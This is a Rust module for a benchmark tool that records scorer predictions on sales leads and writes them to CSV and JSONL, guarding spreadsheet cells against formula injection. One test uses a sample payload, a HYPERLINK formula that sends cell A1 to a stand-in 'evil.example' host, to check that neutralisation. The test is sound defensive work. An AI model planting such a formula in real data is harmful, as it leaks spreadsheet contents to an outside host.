//! The prediction record: one row per lead × scorer × repeat, as written to
//! `predictions.csv` / `predictions.jsonl` by the sink, and read back (`read.rs`) whole or,
//! for `bench report`, without its free text.

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

mod read;
mod scorer;
mod status;

pub use read::{MetricRow, read_metric_rows, read_prediction_rows, read_predictions_csv};
pub use scorer::{LOGPROBS, ScorerId};
pub use status::Status;

use crate::atomic::AtomicFile;
use crate::lead::{Label, guard_formula};

/// What one scorer said about one lead in one repeat, with everything it cost.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Prediction {
    pub run_id: String,
    pub lead_id: String,
    /// `heuristic`, `learned` or `llm/<model>/<prompt>`.
    pub scorer: String,
    /// 0-based repeat index (baselines always 0).
    pub repeat: u32,
    /// Present when the status is `ok` or `coerced`.
    pub lead_score: Option<u8>,
    pub lead_label: Option<Label>,
    pub justification: String,
    pub status: Status,
    /// Why the prediction failed or what was coerced; empty otherwise.
    pub error: String,
    /// Whether the label agrees with the score's band; empty when unparsed.
    pub consistent: Option<bool>,
    /// Class probabilities, for scorers that have them (the learned model).
    pub p_low: Option<f64>,
    pub p_medium: Option<f64>,
    pub p_high: Option<f64>,
    pub latency_ms: f64,
    pub prompt_tokens: Option<u32>,
    pub completion_tokens: Option<u32>,
    pub cost_usd: Option<f64>,
    /// Prompt tokens the provider served from its prompt cache (files of older versions
    /// lack the column).
    #[serde(default)]
    pub cached_prompt_tokens: Option<u32>,
    /// What the provider's prompt cache saved on this request.
    #[serde(default)]
    pub saved_usd: Option<f64>,
    /// HTTP attempts made (0 for in-process scorers and cache hits).
    pub attempts: u32,
    pub cached: bool,
    /// The model's raw answer text, kept verbatim (empty for in-process scorers).
    pub raw_response: String,
}

impl Prediction {
    /// A prediction of `scorer` for `lead_id` with `status` and nothing else yet: no score,
    /// no text, no usage.
    pub fn empty(run_id: &str, lead_id: &str, scorer: &str, repeat: u32, status: Status) -> Self {
        Prediction {
            run_id: run_id.to_string(),
            lead_id: lead_id.to_string(),
            scorer: scorer.to_string(),
            repeat,
            lead_score: None,
            lead_label: None,
            justification: String::new(),
            status,
            error: String::new(),
            consistent: None,
            p_low: None,
            p_medium: None,
            p_high: None,
            latency_ms: 0.0,
            prompt_tokens: None,
            completion_tokens: None,
            cost_usd: None,
            cached_prompt_tokens: None,
            saved_usd: None,
            attempts: 0,
            cached: false,
            raw_response: String::new(),
        }
    }

    /// The (label, score) pair when the prediction was parsed.
    pub fn parsed(&self) -> Option<(Label, u8)> {
        MetricRow::from(self).parsed()
    }

    /// Class probabilities when all three are present.
    pub fn probabilities(&self) -> Option<[f64; 3]> {
        MetricRow::from(self).probabilities()
    }

    /// The free-text fields, which a CSV cell guard applies to (the others are numbers,
    /// enums and ids of the tool's own making).
    fn text_fields_mut(&mut self) -> [&mut String; 6] {
        [
            &mut self.run_id,
            &mut self.lead_id,
            &mut self.scorer,
            &mut self.justification,
            &mut self.error,
            &mut self.raw_response,
        ]
    }

    /// This prediction as `predictions.csv` holds it: text cells a spreadsheet would run
    /// as formulas neutralised (see [`guard_formula`]).
    fn for_csv(&self) -> Prediction {
        let mut p = self.clone();
        for t in p.text_fields_mut() {
            if let Cow::Owned(guarded) = guard_formula(t) {
                *t = guarded;
            }
        }
        p
    }
}

/// What a sink has seen of one scorer.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ScorerTally {
    pub total: u64,
    /// Predictions with a score and label (`ok` or `coerced`).
    pub parsed: u64,
    /// The error text of the first failed prediction, to say why a scorer got nothing.
    pub first_error: Option<String>,
}

/// Writes predictions as they come to `predictions.csv` and `predictions.jsonl` in a run
/// directory; both appear only when [`PredictionSink::finish`] succeeds.
pub struct PredictionSink {
    csv: csv::Writer<AtomicFile>,
    jsonl: AtomicFile,
    dir: PathBuf,
    written: u64,
    tallies: BTreeMap<String, ScorerTally>,
}

impl PredictionSink {
    pub fn create(dir: &Path) -> std::io::Result<PredictionSink> {
        Ok(PredictionSink {
            csv: csv::Writer::from_writer(AtomicFile::create(&dir.join("predictions.csv"))?),
            jsonl: AtomicFile::create(&dir.join("predictions.jsonl"))?,
            dir: dir.to_path_buf(),
            written: 0,
            tallies: BTreeMap::new(),
        })
    }

    pub fn push(&mut self, p: &Prediction) -> std::io::Result<()> {
        self.csv
            .serialize(p.for_csv())
            .map_err(std::io::Error::other)?;
        serde_json::to_writer(&mut self.jsonl, p).map_err(std::io::Error::other)?;
        self.jsonl.write_all(b"\n")?;
        self.written += 1;
        let tally = self.tallies.entry(p.scorer.clone()).or_default();
        tally.total += 1;
        if p.parsed().is_some() {
            tally.parsed += 1;
        } else if tally.first_error.is_none() && !p.error.is_empty() {
            tally.first_error = Some(p.error.clone());
        }
        Ok(())
    }

    pub fn written(&self) -> u64 {
        self.written
    }

    /// Per scorer id: predictions written, parsed ones, the first error.
    pub fn tallies(&self) -> &BTreeMap<String, ScorerTally> {
        &self.tallies
    }

    pub fn dir(&self) -> &Path {
        &self.dir
    }

    /// Flushes both files and moves them into place.
    pub fn finish(self) -> std::io::Result<()> {
        self.csv
            .into_inner()
            .map_err(|e| e.into_error())?
            .commit()?;
        self.jsonl.commit()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lead::Bands;
    use crate::score::Score;

    #[test]
    fn predictions_round_trip_through_csv() {
        let score = Score {
            lead_score: 72,
            lead_label: Label::Medium,
            justification: "size 1,200 (+15); \"pricing\"".into(),
            probabilities: Some([0.1, 0.6, 0.3]),
        };
        let mut a = score.into_prediction("r", "L1", "learned", &Bands::default(), 0.5);
        a.raw_response = "line one\nline, two".into();
        let mut b = a.clone();
        b.lead_id = "L2".into();
        b.status = Status::ParseError;
        b.lead_score = None;
        b.lead_label = None;
        b.consistent = None;
        b.p_low = None;
        let dir = tempfile::tempdir().expect("tempdir");
        let path = dir.path().join("predictions.csv");
        let mut w = csv::Writer::from_path(&path).expect("writer");
        w.serialize(&a).expect("row");
        w.serialize(&b).expect("row");
        w.flush().expect("flush");
        drop(w);
        let back = read_predictions_csv(&path).expect("read back");
        assert_eq!(back, vec![a.clone(), b.clone()]);
        assert_eq!(a.consistent, Some(false));
        assert_eq!(a.parsed(), Some((Label::Medium, 72)));
        assert_eq!(b.parsed(), None);
        assert_eq!(b.probabilities(), None);
    }

    #[test]
    fn formula_cells_are_neutralised_in_csv_and_exact_in_jsonl() {
        let score = Score {
            lead_score: 90,
            lead_label: Label::High,
            justification: "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")".into(),
            probabilities: None,
        };
        let mut p = score.into_prediction("r", "-L1", "llm/m/p", &Bands::default(), 1.0);
        p.raw_response = "@SUM(1+1)".into();
        p.error = "'=already quoted".into();
        let dir = tempfile::tempdir().expect("tempdir");
        let mut sink = PredictionSink::create(dir.path()).expect("sink");
        sink.push(&p).expect("push");
        sink.finish().expect("finish");
        let csv = std::fs::read_to_string(dir.path().join("predictions.csv")).expect("csv");
        for cell in ["'=HYPERLINK", "'-L1", "'@SUM", "''=already"] {
            assert!(csv.contains(cell), "{cell} not guarded in {csv}");
        }
        let jsonl = std::fs::read_to_string(dir.path().join("predictions.jsonl")).expect("jsonl");
        let exact: Prediction = serde_json::from_str(jsonl.trim()).expect("json");
        assert_eq!(exact, p);
        let back = read_predictions_csv(&dir.path().join("predictions.csv")).expect("read back");
        assert_eq!(back, vec![p]);
    }
}
